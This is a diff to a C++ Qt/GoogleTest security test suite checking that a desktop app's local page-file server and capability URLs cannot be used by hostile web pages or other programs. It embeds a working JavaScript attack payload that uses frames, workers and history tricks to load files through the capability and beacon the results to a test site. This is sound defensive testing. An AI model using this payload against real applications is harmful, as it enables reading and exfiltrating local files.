@@ -17,8 +17,10 @@
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
+#include <QLibrary>
 #include <QDir>
 #include <QElapsedTimer>
+#include <QEventLoop>
 #include <QSaveFile>
 #include <QImage>
 #include <QMainWindow>
@@ -31,11 +33,13 @@
 #include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QUrlQuery>
 
 #include <algorithm>
 #include <cctype>
 #include <functional>
 
+#include <sys/inotify.h>
 #include <sys/stat.h>
 
 #include <unistd.h>
@@ -73,6 +77,9 @@ public:
     QByteArray page;                   // "/page.html"
     QHash<QString, QByteArray> pages;  // any other page, by path (with its query, or without)
     QHash<QString, QByteArray> headers;  // more header lines of a page, by path without query
+    // A script or page made at the moment it is asked for (by path without query): its type and
+    // body, or a null body to leave the path to the tables above.
+    std::function<std::pair<QByteArray, QByteArray>(const QString& path)> made;
 
 private:
     void answer(QTcpSocket* socket) {
@@ -91,6 +98,9 @@ private:
         else if (path == QLatin1String("/page.html")) type = "text/html", body = page;
         else if (pages.contains(path)) type = "text/html", body = pages.value(path);
         else if (pages.contains(bare)) type = "text/html", body = pages.value(bare);
+        if (made) {
+            if (const auto [madeType, madeBody] = made(path); !madeBody.isNull()) type = madeType, body = madeBody;
+        }
         socket->write("HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\nContent-Length: " + QByteArray::number(body.size()) +
                       "\r\n" + headers.value(bare) + "Connection: close\r\n\r\n" + body);
         socket->disconnectFromHost();
@@ -1192,9 +1202,19 @@ window.onload = function () {
     welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
 }
 
+// The mark a view's requests carry, asked of the engine's library in this process.
+QByteArray requestMarkOf(QVWebView* view) {
+    QLibrary engine(QCoreApplication::applicationDirPath() + QStringLiteral("/../lib/qorvel/libqorvel-webengine.so"));
+    QByteArray mark;
+    if (auto get = reinterpret_cast<void (*)(QVWebView*, QByteArray*)>(engine.resolve("qorvelPageRequestMark"))) get(view, &mark);
+    return mark;
+}
+
 // The capability, as the page that holds it sees its own address, opens the page file server to
-// curl as well, while the page shows; a range of a file is answered as RFC 9110 says, an end past
-// the file's (even past 2^64) being the file's end.
+// this process's requests (the engine's network service runs here) with its view's mark, while
+// the page shows (never without the mark, nor with another view's), never to another program
+// (curl) even then; a range of a file is answered as RFC 9110 says, an end past the file's (even
+// past 2^64) being the file's end.
 TEST(PageTrust, ThePageFileServerAnswersRangesOfAFileToACapabilityWhileItsPageShows) {
     if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
     TestDir dir;
@@ -1206,6 +1226,13 @@ TEST(PageTrust, ThePageFileServerAnswersRangesOfAFileToACapabilityWhileItsPageSh
     ASSERT_EQ(capability.size(), 32) << capability.toStdString();
     const quint16 port = pageFileServerPort({});
     ASSERT_NE(port, 0);
+    const QByteArray mark = requestMarkOf(help.webView());
+    QVIntegratedPreviewController::install();
+    const QByteArray otherMark = requestMarkOf(QVIntegratedPreviewController::sharedPreview().webView());
+    ASSERT_EQ(mark.size(), 32);
+    ASSERT_EQ(otherMark.size(), 32);
+    ASSERT_NE(mark, otherMark);
+    const QStringList asView{"-H", "Qorvel-View: " + QString::fromLatin1(mark)};
     const QString file = dir.write("ten.txt", "0123456789");
     const QString served = QStringLiteral("http://127.0.0.1:%1/").arg(port);
     struct Row {
@@ -1213,6 +1240,7 @@ TEST(PageTrust, ThePageFileServerAnswersRangesOfAFileToACapabilityWhileItsPageSh
         QString address;
         QString range;   // empty: none
         QString status;  // and the body after a blank line
+        QStringList headers = {};  // instead of the view's mark
     };
     const QString own = served + capability + file;
     const QList<Row> rows{
@@ -1228,44 +1256,478 @@ TEST(PageTrust, ThePageFileServerAnswersRangesOfAFileToACapabilityWhileItsPageSh
         {"an end of 30 digits", own, "8-999999999999999999999999999999", "206 bytes 8-9/10 89"},
         {"a start past the file's end", own, "10-", "416 bytes */10"},
         {"an end before the start", own, "5-3", "416 bytes */10"},
+        {"no mark", own, "", "403", {"-H", "X-None: 1"}},
+        {"another view's mark", own, "", "403", {"-H", "Qorvel-View: " + QString::fromLatin1(otherMark)}},
+        {"a mark in capitals", own, "", "403", {"-H", "Qorvel-View: " + QString::fromLatin1(mark.toUpper())}},
+        {"a font's question first", own, "", "204", {"-X", "OPTIONS", "-H", "Access-Control-Request-Method: GET", "-H", "Access-Control-Request-Headers: qorvel-view"}},
+        {"another question first", own, "", "405", {"-X", "OPTIONS", "-H", "Access-Control-Request-Method: GET", "-H", "Access-Control-Request-Headers: range"}},
     };
-    for (const Row& row : rows) {
-        QProcess curl;
-        QStringList arguments{"-s", "-g", "-o", "-", "-w", "##%{http_code} %header{content-range}", row.address};
-        if (!row.range.isEmpty()) arguments << "-H" << "Range: bytes=" + row.range;
-        curl.start(QStringLiteral("curl"), arguments);
-        ASSERT_TRUE(curl.waitForFinished(20000));
-        const QString out = QString::fromUtf8(curl.readAllStandardOutput());
-        const QString status = out.section(QLatin1String("##"), -1), body = out.section(QLatin1String("##"), 0, -2);
-        const QString answer = (status + ' ' + (status.startsWith(QLatin1String("20")) ? body : QString())).simplified();
-        EXPECT_EQ(answer, row.status) << row.name;
-    }
+    // "status content-range body" of address as this process asks for it, with curl's words for
+    // the method and headers (the view's mark unless others are given).
+    const auto get = [&](const QString& address, const QString& range, const QStringList& words) {
+        const QUrl url(address);
+        QByteArray method = "GET", headers;
+        for (qsizetype i = 0; i + 1 < words.size(); i += 2) {
+            if (words[i] == QLatin1String("-X")) method = words[i + 1].toUtf8();
+            else headers += words[i + 1].toUtf8() + "\r\n";
+        }
+        QTcpSocket socket;
+        QByteArray answer;
+        QObject::connect(&socket, &QTcpSocket::readyRead, [&] { answer += socket.readAll(); });
+        socket.connectToHost(QHostAddress::LocalHost, quint16(url.port()));
+        socket.write(method + ' ' + url.path(QUrl::FullyEncoded).toUtf8() + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + headers +
+                     (range.isEmpty() ? QByteArray() : "Range: bytes=" + range.toUtf8() + "\r\n") + "\r\n");
+        if (!QTest::qWaitFor([&] { return socket.state() == QAbstractSocket::UnconnectedState; }, 20000)) return QStringLiteral("no answer");
+        const qsizetype end = answer.indexOf("\r\n\r\n");
+        const QList<QByteArray> head = answer.left(end).split('\n');
+        const QByteArray code = head.value(0).split(' ').value(1);
+        QByteArray contentRange;
+        for (const QByteArray& line : head)
+            if (line.toLower().startsWith("content-range:")) contentRange = line.mid(14).trimmed();
+        return QString::fromUtf8(code + ' ' + contentRange + ' ' + (code.startsWith("20") ? answer.mid(end + 4) : QByteArray())).simplified();
+    };
+    for (const Row& row : rows) EXPECT_EQ(get(row.address, row.range, row.headers.isEmpty() ? asView : row.headers), row.status) << row.name;
+    // Another program holding the capability and the mark, while the page shows: nothing, as a
+    // site's page in a browser of this machine that a beacon told the page's address.
+    QProcess curl;
+    curl.start(QStringLiteral("curl"), QStringList{"-s", "-g", "-o", "/dev/null", "-w", "%{http_code}", own} + asView);
+    ASSERT_TRUE(curl.waitForFinished(20000));
+    EXPECT_EQ(QString::fromUtf8(curl.readAllStandardOutput()), "403") << "curl";
+    EXPECT_EQ(get(own, {}, asView), "200 0123456789");
 
     // The capability holds while its page shows: gone once the view shows another (a page's own
-    // script that carried it off has nothing), back with the user's going back to it, and
-    // another load of the same file has one of its own.
-    const auto status = [&](const QString& address) {
-        QProcess curl;
-        curl.start(QStringLiteral("curl"), {"-s", "-g", "-o", "/dev/null", "-w", "%{http_code}", address});
-        return curl.waitForFinished(20000) ? QString::fromUtf8(curl.readAllStandardOutput()) : QStringLiteral("no answer");
-    };
+    // script that carried it off has nothing), for good: going back to the page shows it under a
+    // new one, which a reload keeps; another load of the same file has one of its own.
+    const auto status = [&](const QString& address) { return get(address, {}, asView).section(' ', 0, 0); };
     titles.clear();
     help.showPage(QUrl::fromLocalFile(dir.write("next.html", "<html><head><title>next</title></head><body></body></html>")));
     ASSERT_EQ(settledTitle(titles, {"next"}), "next");
     EXPECT_EQ(status(own), "403");
     titles.clear();
     help.webView()->back();
-    ASSERT_EQ(settledTitle(titles, {"host "}), "host " + capability);
-    EXPECT_EQ(status(own), "200");
+    // (The view names the page by its history entry's title, the old one, until its script runs.)
+    QString back;
+    EXPECT_TRUE(QTest::qWaitFor(
+        [&] {
+            back = titles.isEmpty() ? QString() : titles.last().first().toString().mid(5);
+            return back.size() == 32 && back != capability;
+        },
+        30000));
+    EXPECT_EQ(help.webView()->url(), QUrl::fromLocalFile(dir.file("own.html")));
+    EXPECT_EQ(status(own), "403");
+    EXPECT_EQ(status(served + back + file), "200");
     titles.clear();
     help.webView()->reload();
-    ASSERT_EQ(settledTitle(titles, {"host "}), "host " + capability);
-    EXPECT_EQ(status(own), "200");
+    ASSERT_EQ(settledTitle(titles, {"host "}), "host " + back);
+    EXPECT_EQ(status(served + back + file), "200");
     titles.clear();
     help.webView()->load(QUrl::fromLocalFile(dir.file("own.html")));
     const QString again = settledTitle(titles, {"host "}).mid(5);
     EXPECT_NE(again, capability);
+    EXPECT_NE(again, back);
     EXPECT_EQ(status(served + again + file), "200");
     EXPECT_EQ(status(own), "403");
+    EXPECT_EQ(status(served + back + file), "403");
     help.close();
 }
+
+namespace {
+
+// Every open and read of a file in a folder, as the kernel reports them: what any process, ours or
+// the web engine's, took from the folder's files, whoever asked.
+class FileReads {
+public:
+    explicit FileReads(const QString& folder) : _fd(::inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) {
+        if (_fd >= 0) _watch = ::inotify_add_watch(_fd, QFile::encodeName(folder).constData(), IN_OPEN | IN_ACCESS);
+    }
+    ~FileReads() {
+        if (_fd >= 0) ::close(_fd);
+    }
+    FileReads(const FileReads&) = delete;
+    FileReads& operator=(const FileReads&) = delete;
+    bool watching() const { return _fd >= 0 && _watch >= 0; }
+    // The files opened or read since the last call (the folder's own listing aside).
+    QStringList taken() {
+        QStringList names;
+        alignas(inotify_event) char buffer[8192];
+        for (ssize_t got; (got = ::read(_fd, buffer, sizeof buffer)) > 0;)
+            for (ssize_t at = 0; at < got;) {
+                const auto* event = reinterpret_cast<const inotify_event*>(buffer + at);
+                if (event->len) names << QFile::decodeName(event->name);
+                at += ssize_t(sizeof(inotify_event) + event->len);
+            }
+        return names;
+    }
+
+private:
+    int _fd;
+    int _watch = -1;
+};
+
+// The site a page from the disk hands its address to. Once it shows, it and its frames (one of the
+// site, one sandboxed, so of no site) and its workers (a dedicated one, and a shared one, of no
+// view) keep trying another project's script and image
+// by that address (the page scheme's, and the page file server's when port is given), every 300 ms,
+// and in a burst while the view goes back (with frames of the script too, and as the page is hidden).
+// A script that ran or an image that loaded is a request for /read-... at the site; each document
+// says /armed-<kind> once it tries. route: how it goes back to the page from the disk, history.back(),
+// history.go(-1), history.back() replaced at once by another page of the site ("replace"), or "user"
+// (it says /ready and waits for the user's Back).
+const char* const returningAttack = R"js(function qvAgent(kind, from, PORT, SITE, route) {
+  var inWorker = typeof document === 'undefined';
+  function beacon(what) { fetch(SITE + '/' + what, {mode: 'no-cors'}).catch(function () {}); }
+  var u = new URL(from), config = new URL('../other/config.js', from), image = new URL('../other/image.png', from);
+  var scripts = [config.href], images = [image.href];
+  if (PORT) {
+    scripts.push('http://127.0.0.1:' + PORT + '/' + u.host + config.pathname);
+    images.push('http://127.0.0.1:' + PORT + '/' + u.host + image.pathname);
+  }
+  function caught(address) {
+    if (self.stolen !== 'QVSECRET') return;
+    self.stolen = undefined;
+    beacon('read-' + kind + '-' + encodeURIComponent(address));
+  }
+  // leaving: the page is going, and asks so that its requests outlive it (a page may keep few such).
+  function attempt(leaving) {
+    scripts.forEach(function (address) {
+      var a = address + '?' + Math.random();
+      if (inWorker) { try { importScripts(a); } catch (e) {} caught(address); }
+      else {
+        var s = document.createElement('script'); s.src = a;
+        s.onload = function () { caught(address); s.remove(); }; s.onerror = function () { s.remove(); };
+        (document.head || document.documentElement).appendChild(s);
+      }
+      if (leaving && /^http/.test(a)) fetch(a, {mode: 'no-cors', keepalive: true}).catch(function () {});
+    });
+    if (!inWorker) images.forEach(function (address) {
+      var i = new Image(); i.onload = function () { beacon('read-image-' + kind); }; i.src = address + '?' + Math.random();
+    });
+  }
+  // (A shared worker, of no view, answers whoever connects.)
+  if (!inWorker) beacon('armed-' + kind);
+  else if (self.postMessage) postMessage('armed');
+  else self.onconnect = function (e) { e.ports[0].postMessage('armed'); };
+  // A worker keeps asking; a document asks at once, and again while it goes.
+  if (inWorker) setInterval(attempt, 300); else attempt();
+  if (inWorker || kind !== 'outer') return;
+  var code = '(' + qvAgent.toString() + ')';
+  function start(k) { return code + '(' + [k, from, PORT, SITE, ''].map(function (v) { return JSON.stringify(v); }).join(', ') + ')'; }
+  [URL.createObjectURL(new Blob([start('worker')], {type: 'text/javascript'})), 'data:text/javascript,' + encodeURIComponent(start('worker'))]
+    .forEach(function (address) {
+      try {
+        var w = new Worker(address);
+        w.onmessage = function () { beacon('armed-worker'); };
+        (self.qvWorkers = self.qvWorkers || []).push(w);
+      } catch (e) {}
+    });
+  try {
+    var shared = new SharedWorker(URL.createObjectURL(new Blob([start('shared-worker')], {type: 'text/javascript'})));
+    shared.port.onmessage = function () { beacon('armed-shared-worker'); };
+    shared.port.start();
+    self.qvShared = shared;
+  } catch (e) {}
+  [['frame', false], ['sandboxed-frame', true]].forEach(function (f) {
+    var e = document.createElement('iframe');
+    if (f[1]) e.sandbox = 'allow-scripts';
+    e.srcdoc = '<html><head></head><body><script>' + start(f[0]) + '<\/script></body></html>';
+    document.body.appendChild(e);
+  });
+  function burst() {
+    for (var n = 0; n < 30; ++n) attempt(n < 10);
+    scripts.forEach(function (address) {
+      var e = document.createElement('iframe'); e.src = address + '?' + Math.random(); document.body.appendChild(e);
+    });
+  }
+  window.addEventListener('pagehide', burst);
+  setTimeout(function () {
+    if (route === 'user') return beacon('ready');
+    if (route === 'back') history.back();
+    else if (route === 'go') history.go(-1);
+    else { history.back(); location.replace(SITE + '/attack.html?replaced'); }
+    burst();
+    setTimeout(burst, 5);
+    setTimeout(burst, 20);
+  }, 500);
+})js";
+
+}  // namespace
+
+namespace {
+
+// Waits until done() holds, at most ms, turning the event loop as the program's does. (QTest's
+// wait sleeps between turns, and the engine runs its tasks on this thread: under a page's flood of
+// requests, each a task here, that wait alone held a return for tens of seconds.)
+bool turnUntil(const std::function<bool()>& done, int ms) {
+    if (done()) return true;
+    QEventLoop loop;
+    QTimer poll;
+    QObject::connect(&poll, &QTimer::timeout, &loop, [&] {
+        if (done()) loop.quit();
+    });
+    QTimer::singleShot(ms, &loop, &QEventLoop::quit);
+    poll.start(10);
+    loop.exec();
+    return done();
+}
+
+// A page from the disk hands its address to a site, and shows it. The site goes back to the page,
+// by script or by the user's Back, trying the page's capability all the while from itself, its
+// frames and its worker; or it shows in a second view while the page still shows in the first,
+// trying the capability that holds there. None reads a file (the kernel sees none opened), as a
+// web page gets no file from Chromium; the page comes anew with its own stylesheet, script, image
+// and frame (one that moved) on every return (back, forward then back, reload), and while the
+// second view tries; no title the view reports, nor its window's, holds the page scheme.
+void returnToADiskPage(QLatin1String only) {
+    Site site;
+    TestDir dir;
+    dir.write("other/config.js", "self.stolen = 'QVSECRET';");
+    dir.write("other/image.png", pixel);
+    dir.write("site/own.css", "body { color: rgb(1, 2, 3); }");
+    dir.write("site/own.js", "window.ownScript = true;");
+    dir.write("site/own.png", pixel);
+    // (It moves once, as a frame a user clicked in does: the page's history entry keeps where.)
+    dir.write("site/own-frame.html", "<script>if (!location.search) location.replace(location.href + '?moved'); else parent.postMessage('own-frame', '*');</script>");
+    // No <title>: the engine names the page by its address until its script names it.
+    const QString diskPath = dir.write("site/index.html", QByteArray(R"(<!DOCTYPE html><html><head>
+<link rel="stylesheet" href="own.css"><script src="own.js"></script><script src="@SITE@/state.js"></script></head>
+<body><img id="own" src="own.png"><iframe src="own-frame.html"></iframe><script>
+var framed = false, loaded = false;
+addEventListener('message', function (e) { if (e.data === 'own-frame') { framed = true; named(); } });
+window.onload = function () { loaded = true; named(); };
+function named() {
+  if (!loaded || !framed) return;
+  var parts = [];
+  if (getComputedStyle(document.body).color === 'rgb(1, 2, 3)') parts.push('stylesheet');
+  if (window.ownScript) parts.push('script');
+  if (document.getElementById('own').naturalWidth === 1) parts.push('image');
+  parts.push('frame');
+  // (A nonce: going back, the view first names the page by its history entry's old title.)
+  document.title = 'disk ' + parts.join(' ') + ' ' + Math.random();
+  new Image().src = '@SITE@/beacon-' + window.tag + '?' + encodeURIComponent(location.href);
+  if (window.route === 'back' || window.route === 'go' || window.route === 'replace') setTimeout(function () {
+    location = '@SITE@/attack.html?route=' + window.route + '&from=' + encodeURIComponent(location.href);
+  }, 50);
+}
+</script></body></html>)").replace("@SITE@", site.address().toUtf8()));
+    const QUrl diskPage = QUrl::fromLocalFile(diskPath);
+    const QString shownParts = QStringLiteral("disk stylesheet script image frame");
+    FileReads fileReads(dir.file("other"));
+    ASSERT_TRUE(fileReads.watching());
+
+    // The page goes to the site once per row (the site tells it how to come back), and the site
+    // attacks once: shown again (forward), it is a quiet page.
+    QByteArray route;
+    int tag = 0;  // the row's, which the page's reports carry: a page of an earlier row may report late
+    bool attacked = false;
+    quint16 port = 0;
+    for (const char* path : {"/state.js", "/attack.html"}) site.headers.insert(path, "Cache-Control: no-store\r\n");
+    site.made = [&](const QString& path) -> std::pair<QByteArray, QByteArray> {
+        const QString bare = path.section('?', 0, 0);
+        if (bare == QLatin1String("/state.js"))
+            return {"text/javascript", "window.route = '" + std::exchange(route, QByteArray()) + "'; window.tag = " + QByteArray::number(tag) + ";"};
+        if (bare != QLatin1String("/attack.html")) return {};
+        if (std::exchange(attacked, true)) return {"text/html", "<html><head><title>site</title></head><body>quiet</body></html>"};
+        const QUrlQuery query(QUrl(path).query());
+        return {"text/html", "<!DOCTYPE html><html><head><title>attack</title></head><body><script>window.onload = function () { (" + QByteArray(returningAttack) + ")('outer', " +
+                                 QJsonDocument(QJsonArray{query.queryItemValue("from", QUrl::FullyDecoded)}).toJson(QJsonDocument::Compact).mid(1).chopped(1) +
+                                 ", " + QByteArray::number(port) + ", '" + site.address().toUtf8() + "', '" +
+                                 query.queryItemValue("route").toUtf8() + "'); };</script></body></html>"};
+    };
+    const auto reads = [&] { return site.paths.filter(QRegularExpression(QStringLiteral("^/read-"))); };
+    const QStringList agents{"/armed-outer", "/armed-frame", "/armed-sandboxed-frame", "/armed-worker", "/armed-shared-worker"};
+    const auto armed = [&] { return std::all_of(agents.begin(), agents.end(), [&](const QString& a) { return site.paths.contains(a); }); };
+
+    struct Route {
+        const char* name;
+        QByteArray route;
+    };
+    // "another view": the site shows in a second view while the page still shows in the first.
+    // "a Back stopped": the user stops the return at once, waits while the site tries, and goes back again.
+    // "replaced": the site's history.back() gives way at once to another page of the site.
+    const QList<Route> routes{{"history.back()", "back"}, {"history.go(-1)", "go"},   {"history.back() replaced", "replace"},
+                              {"the user's Back", "user"}, {"a Back stopped", "stop"}, {"another view", "view"}};
+
+    // Chromium, the page on file:, is the peer: the site's documents run and read nothing.
+    for (const Route& r : routes) {
+        // (Headless Chromium has no one to press Back; the preview's row holds the peer to it.)
+        if (r.route == "user" || r.route == "stop" || r.route == "view" || only != QLatin1String("preview")) continue;
+        SCOPED_TRACE(std::string("chromium, ") + r.name);
+        site.paths.clear();
+        route = r.route;
+        attacked = false;
+        const QString title = chromiumTitle(diskPage.toString(), 8000);
+        EXPECT_FALSE(site.paths.filter(QStringLiteral("/attack.html?")).isEmpty()) << title.toStdString() << " " << site.paths.join(' ').toStdString();
+        EXPECT_EQ(reads(), QStringList());
+        EXPECT_EQ(fileReads.taken(), QStringList());
+    }
+
+    QVIntegratedPreviewController::install();
+    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
+    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
+    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
+    struct View {
+        const char* name;
+        QMainWindow* window;
+        QVWebView* view;
+        std::function<void()> show;
+    };
+    const QList<View> views{
+        {"preview", &preview, preview.webView(), [&] { preview.showURL(diskPage.toString()); }},
+        {"help", &help, help.webView(), [&] { help.showPage(diskPage); }},
+        {"welcome", &welcome, welcome.infoWebView(),
+         [&] {
+             welcome.show();
+             welcome.infoWebView()->load(diskPage);
+         }},
+    };
+    for (const View& v : views) {
+        if (QLatin1String(v.name) != only) continue;
+        for (const Route& r : routes) {
+            // A page's own history moves in the preview; the user's Back and a second view in every view.
+            if (r.route != "user" && r.route != "view" && v.window != &preview) continue;
+            SCOPED_TRACE(std::string(v.name) + ", " + r.name);
+            QSignalSpy titles(v.view, &QVWebView::titleChanged);
+            QStringList everyTitle, windowTitles;
+            const QMetaObject::Connection noting =
+                QObject::connect(v.view, &QVWebView::titleChanged, [&](const QString& title) { everyTitle << title; });
+            const auto last = [&] { return titles.isEmpty() ? QString() : titles.last().first().toString(); };
+            // (The site's frames, which never stop loading, keep its page loading; the page from
+            // the disk names its parts once they loaded.)
+            // The page from the disk settles on a title of its own parts and a nonce no earlier
+            // document of it had.
+            // earlier: the titles before the navigation (the page's old ones among them).
+            const auto settle = [&](const QString& title, const QStringList& earlier = {}) {
+                const bool settled = turnUntil(
+                    [&] {
+                        windowTitles << v.window->windowTitle();
+                        const bool named = title == shownParts ? last().startsWith(title + ' ') && !earlier.contains(last()) : last() == title;
+                        return named && (v.view->loadProgress() == 100 || title != QLatin1String("site"));
+                    },
+                    30000);
+                return settled ? title : "still " + last() + " at " + v.view->url().toString();
+            };
+            site.paths.clear();
+            route = r.route;
+            ++tag;
+            attacked = false;
+            // The page file server listens from the first page shown; the site is told its port.
+            if (!port) help.showPage(QUrl::fromLocalFile(dir.write("first.html", "<title>first</title>")));
+            if (!port) port = pageFileServerPort({site.port()});
+            ASSERT_NE(port, 0);
+            // (A window asked for the page it shows may keep it as it is.)
+            if (v.view->url() == diskPage) {
+                v.view->load(QUrl(QStringLiteral("about:blank")));
+                ASSERT_TRUE(turnUntil([&] { return v.view->url() != diskPage; }, 20000));
+            }
+            v.show();
+            QString beacon;
+            if (r.route != "back" && r.route != "go" && r.route != "replace") {
+                ASSERT_TRUE(turnUntil([&] { return !(beacon = site.paths.filter(QStringLiteral("/beacon-%1?").arg(tag)).value(0)).isEmpty(); }, 20000));
+            }
+            const QUrl attack(site.address() + "/attack.html?route=user&from=" + beacon.section('?', 1));
+            if (r.route == "view") {
+                // The site shows beside the page, in a view of its own, and tries the page's
+                // capability, which holds all the while, from its frames and worker; the page
+                // still has its files (a reload while it tries), the site none, up to its end.
+                EXPECT_EQ(settle(shownParts), shownParts);
+                std::unique_ptr<QVWebView> other(QVWebView::create(nullptr));
+                other->resize(400, 300);
+                other->show();
+                other->load(attack);
+                ASSERT_TRUE(turnUntil([&] { return armed() && site.paths.contains(QStringLiteral("/ready")); }, 20000))
+                    << site.paths.join(' ').toStdString();
+                const QStringList beforeReload = everyTitle;
+                v.view->reload();
+                EXPECT_EQ(settle(shownParts, beforeReload), shownParts);
+                EXPECT_EQ(v.view->url(), diskPage);
+                QTest::qWait(1000);
+                other->load(QUrl(QStringLiteral("about:blank")));
+                QTest::qWait(1000);
+                EXPECT_EQ(reads(), QStringList());
+                EXPECT_EQ(fileReads.taken(), QStringList());
+            } else {
+                const bool byUser = r.route == "user" || r.route == "stop";
+                if (byUser) {
+                    // The user takes the view to the site (the engine's Back would skip a page that
+                    // left by itself, as Chromium's does).
+                    v.view->load(attack);
+                }
+                ASSERT_EQ(settle(QStringLiteral("attack")), "attack");
+                ASSERT_TRUE(turnUntil([&] { return site.paths.contains(QStringLiteral("/armed-outer")); }, 20000));
+                EXPECT_TRUE(v.view->url().toString().startsWith(site.address())) << v.view->url().toString().toStdString();
+                if (byUser) {
+                    ASSERT_TRUE(turnUntil([&] { return armed() && site.paths.contains(QStringLiteral("/ready")); }, 20000))
+                        << site.paths.join(' ').toStdString();
+                    v.view->back();
+                }
+                if (r.route == "stop") {
+                    // (Stopped in time or not: either the site still shows, or the page came.)
+                    v.view->stop();
+                    turnUntil([] { return false; }, 1500);
+                    EXPECT_EQ(reads(), QStringList());
+                    EXPECT_EQ(fileReads.taken(), QStringList());
+                    if (v.view->url() != diskPage) v.view->back();
+                }
+                if (r.route == "replace") {
+                    // Whichever wins, the site or the page, nothing reads a file.
+                    const QStringList earlier = everyTitle.mid(0, everyTitle.lastIndexOf("attack"));
+                    EXPECT_TRUE(turnUntil([&] { return (last().startsWith(shownParts + ' ') && !earlier.contains(last())) || last() == QLatin1String("site"); }, 30000))
+                        << last().toStdString();
+                    turnUntil([] { return false; }, 1000);
+                } else {
+                    // A page from the disk is never kept for a return as it was left (the engine keeps
+                    // only web pages so): it comes anew, with its parts.
+                    EXPECT_EQ(settle(shownParts, everyTitle.mid(0, everyTitle.lastIndexOf("attack"))), shownParts);
+                    EXPECT_EQ(v.view->url(), diskPage);
+                    QTest::qWait(500);
+                    EXPECT_TRUE(armed()) << site.paths.join(' ').toStdString();
+                    EXPECT_EQ(reads(), QStringList());
+                    EXPECT_EQ(fileReads.taken(), QStringList());
+
+                    // Forward to the site (quiet now), back, and a reload: the page has its files each time.
+                    // (The engine's Back skips a page that left by itself, as Chromium's does: the user's
+                    // row only.)
+                    if (r.route == "user") {
+                        v.view->forward();
+                        EXPECT_EQ(settle(QStringLiteral("site")), "site");
+                        v.view->back();
+                        EXPECT_EQ(settle(shownParts, everyTitle.mid(0, everyTitle.lastIndexOf("site"))), shownParts);
+                        const QStringList beforeReload = everyTitle;
+                        v.view->reload();
+                        EXPECT_EQ(settle(shownParts, beforeReload), shownParts);
+                        EXPECT_EQ(v.view->url(), diskPage);
+                    }
+                }
+            }
+            EXPECT_EQ(reads(), QStringList());
+            EXPECT_EQ(fileReads.taken(), QStringList());
+            QObject::disconnect(noting);
+            // The engine named the page by its address before its script did: as a file: address.
+            const QString capability = QRegularExpression(QStringLiteral("qvfile%3A%2F%2F([0-9a-f]{32})"), QRegularExpression::CaseInsensitiveOption)
+                                           .match(site.paths.join(' '))
+                                           .captured(1);
+            ASSERT_EQ(capability.size(), 32) << site.paths.join(' ').toStdString();
+            EXPECT_TRUE(everyTitle.filter(QStringLiteral("qvfile:"), Qt::CaseInsensitive).isEmpty()) << everyTitle.join('|').toStdString();
+            // (The site's own address holds it, as the page put it there.)
+            const QStringList ours = everyTitle.filter(QRegularExpression(QStringLiteral("^(?!.*attack\\.html)")));
+            EXPECT_TRUE(ours.filter(capability, Qt::CaseInsensitive).isEmpty()) << everyTitle.join('|').toStdString();
+            EXPECT_FALSE(everyTitle.filter(QStringLiteral("index.html")).isEmpty()) << everyTitle.join('|').toStdString();
+            windowTitles.removeDuplicates();
+            EXPECT_TRUE(windowTitles.filter(QStringLiteral("qvfile:"), Qt::CaseInsensitive).isEmpty()) << windowTitles.join('|').toStdString();
+        }
+        v.window->close();
+    }
+    welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
+}
+
+}  // namespace
+
+class ReturnToADiskPage : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(ReturnToADiskPage, ACapabilityHoldsAgainOnlyOnceItsPageIsShownAgain) {
+    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
+    returnToADiskPage(QLatin1String(GetParam()));
+}
+
+INSTANTIATE_TEST_SUITE_P(PageTrust, ReturnToADiskPage, ::testing::Values("preview", "help", "welcome"),
+                         [](const ::testing::TestParamInfo<const char*>& row) { return std::string(row.param); });
